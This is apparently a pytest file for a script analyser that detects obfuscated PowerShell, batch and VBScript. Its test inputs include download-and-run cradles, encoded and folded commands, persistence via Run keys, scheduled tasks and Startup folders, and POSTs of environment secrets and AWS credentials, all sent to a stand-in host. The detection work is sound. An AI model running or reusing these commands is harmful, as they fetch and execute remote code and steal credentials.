"""PowerShell, batch and VBScript: encoded commands, folded names, and what is fetched, run and stored."""

import base64
import gzip

import pytest

from watchhouse.evidence.facts.code import Call, CodeFacts, Zone
from watchhouse.evidence.facts.scripts.read import read_script
from watchhouse.evidence.values import Sink, Source
from watchhouse.model.artifact import MemberPath
from watchhouse.model.evidence import GapReason, Moment

FETCH = "iwr http://h.example/p"
ENCODED = base64.b64encode(FETCH.encode("utf-16-le")).decode()
PACKED = base64.b64encode(gzip.compress(FETCH.encode(), mtime=0)).decode()

UNPACKED = (
    "((New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream"
    f"(,[Convert]::FromBase64String('{PACKED}'))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd())"
)


def read(text: str, language: str) -> CodeFacts:
    """Return the facts of a script."""
    return read_script(MemberPath("x"), text, language, zone=Zone.PACKAGE, moment=Moment.IMPORT)


def call(facts: CodeFacts, name: str) -> Call:
    """Return the one call of that name."""
    (found,) = [each for each in facts.calls if each.name == name]
    return found


@pytest.mark.parametrize(
    ("text", "language"),
    [
        (f"powershell -w hidden -nop -enc {ENCODED}", "powershell"),
        (f"powershell.exe -e {ENCODED}", "batch"),
        (f"pwsh -EncodedCommand {ENCODED}", "shell"),
        (f"set A=power\nset B=shell\n%A%%B% /ec {ENCODED}", "batch"),
        (f'p^ower^shell -en "{ENCODED}"', "batch"),
        (f'cmd /c "powershell -enc {ENCODED}"', "powershell"),
        (f'CreateObject("WScript.Shell").Run "powershell -enc {ENCODED}", 0', "vbscript"),
        (f"Start-Process powershell -ArgumentList '-enc {ENCODED}'", "powershell"),
        (f"require('child_process').exec('powershell -enc {ENCODED}')", "javascript"),
        (f"require('child_process').spawn('powershell', ['-enc', '{ENCODED}'])", "javascript"),
    ],
)
def test_encoded_commands_become_a_layer(text: str, language: str) -> None:
    """Whoever starts PowerShell and however the option is shortened, the command is decoded and read."""
    facts = read(text, language)
    assert [(layer.language, layer.steps, layer.executed) for layer in facts.layers] == [
        ("powershell", ("base64", "utf-16"), True)
    ]
    found = call(facts, "powershell.invoke-webrequest")
    assert (found.sink, found.location.layer) == (Sink.NETWORK, 1)


@pytest.mark.parametrize(
    "text",
    [
        "IEX (New-Object Net.WebClient).DownloadString('http://h.example/p')",
        "irm http://h.example/p | iex",
        "$u = 'ht'+'tp://h.example/p'; $c = Invoke-WebRequest $u; Invoke-Expression $c.Content",
        "& ('i'+'ex') (iwr http://h.example/p)",
        "i`e`x (curl http://h.example/p)",
        ".($pshome[4]+$pshome[30]+'x') (iwr http://h.example/p)",
        "Set-Alias q iex\nq (iwr http://h.example/p)",
        "if ($true) { foreach ($i in 1..2) { iex (iwr http://h.example/p) } }",
    ],
)
def test_fetched_code_reaches_invoke_expression(text: str) -> None:
    """Aliases, backticks, concatenation and variables do not hide what is fetched and run."""
    found = call(read(text, "powershell"), "powershell.invoke-expression")
    assert found.sink is Sink.CODE
    assert found.receives(Source.REMOTE_CONTENT)


@pytest.mark.parametrize(
    "expression",
    [
        "'iwr'+' http://h.example/p'",
        "('iwr','http://h.example/p' -join ' ')",
        "('{1} {0}' -f 'http://h.example/p','iwr')",
        "('iQr http://h.example/p' -replace 'q','w')",
        "'iXr http://h.example/p'.Replace('X','w')",
        "(-join [char[]](105,119,114)) + ' http://h.example/p'",
        "((105,119,114 | % {[char]$_}) -join '') + ' http://h.example/p'",
        "[string]::Join('', ('iwr', ' http://h.example/p'))",
        f"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{ENCODED}'))",
        UNPACKED,
    ],
)
def test_texts_are_put_together(expression: str) -> None:
    """The usual ways to hide a command are folded, and the command is read."""
    facts = read(f"iex ({expression})", "powershell")
    assert [value.const for value in call(facts, "powershell.invoke-webrequest").arguments] == [
        "http://h.example/p"
    ]
    assert call(facts, "powershell.invoke-expression").decoded == FETCH


def test_objects_keep_their_type() -> None:
    """A method of an object made earlier has the type's name; start-up folders are seen in its arguments."""
    facts = read(
        "$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://h.example/x', \"$env:TEMP\\x.exe\")\n"
        'Start-Process "$env:TEMP\\x.exe"\n'
        'Copy-Item x "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"',
        "powershell",
    )
    assert call(facts, "powershell.webclient.downloadfile").sink is Sink.NETWORK
    assert call(facts, "powershell.start-process").sink is Sink.CODE
    assert call(facts, "powershell.copy-item").sink is Sink.STARTUP


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("irm http://h.example -Method Post -Body (gci env: | Out-String)", Source.ENVIRONMENT),
        ("irm http://h.example -Method Post -Body $env:AWS_SECRET_ACCESS_KEY", Source.ENVIRONMENT),
        ("irm http://h.example -Method Post -Body (gc $HOME\\.aws\\credentials)", Source.CLOUD_TOKEN),
        ('irm "http://h.example/?u=$env:USERNAME"', Source.HOST_IDENTITY),
    ],
)
def test_loot_is_seen_leaving(text: str, source: Source) -> None:
    """Secrets and the host's identity are followed into the request."""
    found = call(read(text, "powershell"), "powershell.invoke-restmethod")
    assert found.sink is Sink.NETWORK
    assert found.receives(source)


@pytest.mark.parametrize(
    ("text", "name", "sink"),
    [
        (
            r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v x /d y',
            "batch.reg",
            Sink.STARTUP,
        ),
        ("certutil -urlcache -f http://h.example/a a.exe", "batch.certutil", Sink.NETWORK),
        ("if exist c:\\x (del /q c:\\x) else ver", "batch.del", Sink.DELETION),
        ("@echo off & schtasks /create /tn x /tr y", "batch.schtasks", Sink.STARTUP),
        ("for /f %%i in ('hostname') do curl -d %%i http://h.example", "batch.curl", Sink.NETWORK),
        ("set X=abcurlz\n%X:~2,4% http://h.example", "batch.curl", Sink.NETWORK),
        ("set X=cXXXurl\n%X:XXX=% http://h.example", "batch.curl", Sink.NETWORK),
        ('start "" /b curl http://h.example', "batch.curl", Sink.NETWORK),
    ],
)
def test_batch_commands_are_named(text: str, name: str, sink: Sink) -> None:
    """Carets, substrings, blocks, loops and wrappers do not hide which program runs."""
    assert call(read(text, "batch"), name).sink is sink


def test_vbscript_objects_and_texts_are_followed() -> None:
    """Names put together from pieces, and a response handed to Execute, are seen."""
    facts = read(
        'With CreateObject("MSXML2." & "XMLHTTP.6.0")\n.Open "GET", "http://h.example", False\n.Send\n'
        'x = .responseText\nEnd With\nExecute x\nCreateObject("WScript.Shell").Run Chr(99) & "alc"\n'
        'ExecuteGlobal StrReverse("1 ohce")',
        "vbscript",
    )
    assert call(facts, "vbscript.msxml2.xmlhttp.open").sink is Sink.NETWORK
    assert call(facts, "vbscript.execute").receives(Source.REMOTE_CONTENT)
    assert call(facts, "vbscript.wscript.shell.run").argument(0).const == "calc"
    assert [layer.steps for layer in facts.layers] == [("strreverse",)]


def test_mshta_runs_script() -> None:
    """Script in an address handed to mshta is read."""
    facts = read('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")', "batch")
    assert call(facts, "vbscript.wscript.shell.run").sink is Sink.PROCESS


def test_a_hidden_command_line_is_one_layer() -> None:
    """A decoded text that starts PowerShell again is a layer once, and the one beneath is another."""
    outer = base64.b64encode(f"powershell -enc {ENCODED}".encode("utf-16-le")).decode()
    facts = read(f"powershell -enc {outer}", "batch")
    assert [(layer.language, layer.location.layer) for layer in facts.layers] == [
        ("powershell", 1),
        ("powershell", 2),
    ]
    assert call(facts, "powershell.invoke-webrequest").location.layer == 2


def test_a_command_that_does_not_decode_is_a_gap() -> None:
    """An encoded command that is no text is said to be unread."""
    facts = read(f"powershell -enc {base64.b64encode(bytes(range(128, 200))).decode()}", "batch")
    assert [gap.reason for gap in facts.gaps] == [GapReason.COMPLEXITY]
